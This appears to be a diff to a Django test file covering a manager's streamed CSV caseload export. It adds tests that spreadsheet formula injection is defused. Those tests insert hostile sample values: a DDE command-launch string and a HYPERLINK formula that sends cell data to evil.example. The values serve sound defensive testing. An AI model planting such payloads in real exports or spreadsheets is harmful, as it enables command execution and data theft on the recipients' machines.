@@ -1,6 +1,8 @@
 """Home pages per role, and the manager's caseload export."""
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.urls import reverse
@@ -102,7 +104,7 @@ def test_manager_exports_caseload_as_csv_and_it_is_logged(client, cast, owned_ca
     response = client.get(reverse("caseload-export"))
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
-    body = response.content.decode()
+    body = _streamed(response)
     assert owned_case.reference in body and other.reference not in body
     event = AccessEvent.objects.get(action="export", user=cast.user("owner", "manager"))
     assert event.detail["ids"] == [owned_case.pk]
@@ -114,10 +116,59 @@ def test_only_managers_export(client, cast, owned_case, role):
     assert client.get(reverse("caseload-export")).status_code == 403
 
 
+def _streamed(response) -> str:
+    assert response.streaming, "the export streams its rows"
+    return b"".join(response.streaming_content).decode()
+
+
 def test_export_defuses_spreadsheet_formulas(client, cast):
     f.CaseFactory(lead_agency=cast.owner, young_person__given_name="=HYPERLINK(1)", young_person__family_name="X")
     client.force_login(cast.user("owner", "manager"))
-    assert "'=HYPERLINK" in client.get(reverse("caseload-export")).content.decode()
+    assert "'=HYPERLINK" in _streamed(client.get(reverse("caseload-export")))
+
+
+# Every character a spreadsheet may read as the start of a formula.
+FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\uff1d"]
+
+
+@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=repr)
+def test_every_cell_starting_a_formula_is_defused(client, cast, lead):
+    worker = cast.user("owner", "practitioner")
+    worker.first_name, worker.last_name = f"{lead}cmd|' /C calc'!A0", "Smith"
+    worker.save()
+    case = f.CaseFactory(
+        lead_agency=cast.owner, key_worker=worker,
+        young_person__given_name=f"{lead}HYPERLINK(\"http://evil.example/?\"&A1)", young_person__family_name="X",
+        young_person__preferred_name="",
+    )
+    client.force_login(cast.user("owner", "manager"))
+    rows = list(csv.reader(io.StringIO(_streamed(client.get(reverse("caseload-export"))), newline="")))
+    (row,) = [r for r in rows if r[0] == case.reference]
+    (person,) = [cell for cell in row if "HYPERLINK" in cell]
+    (key_worker,) = [cell for cell in row if "calc" in cell]
+    assert person.startswith("'" + lead), row
+    # Django's full name drops surrounding white space (a leading tab or
+    # carriage return) itself; anything else is defused.
+    assert key_worker.startswith("'" + lead) or (lead.isspace() and key_worker.startswith("cmd")), row
+    # No cell of the whole file starts a formula.
+    assert not [cell for r in rows for cell in r if cell[:1] in "=+-@\t\r\uff1d"]
+
+
+def test_the_export_streams_every_case_once_in_order_a_chunk_at_a_time(client, cast, monkeypatch):
+    from web.views import home
+
+    monkeypatch.setattr(home, "EXPORT_CHUNK", 3)
+    cases = [f.CaseFactory(lead_agency=cast.owner) for _ in range(8)]
+    f.CaseFactory(lead_agency=cast.outsider)
+    client.force_login(cast.user("owner", "manager"))
+    response = client.get(reverse("caseload-export"))
+    assert not hasattr(response, "content")  # a StreamingHttpResponse: no body held whole
+    chunks = list(response.streaming_content)
+    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))
+    assert rows[0][0] == "Case" and len(chunks) == len(rows)  # one line per chunk sent
+    assert [r[0] for r in rows[1:]] == sorted(c.reference for c in cases)
+    event = AccessEvent.objects.get(action="export", user=cast.user("owner", "manager"))
+    assert sorted(event.detail["ids"]) == sorted(c.pk for c in cases)
 
 
 def test_superuser_home_shows_nothing(client, cast, owned_case):
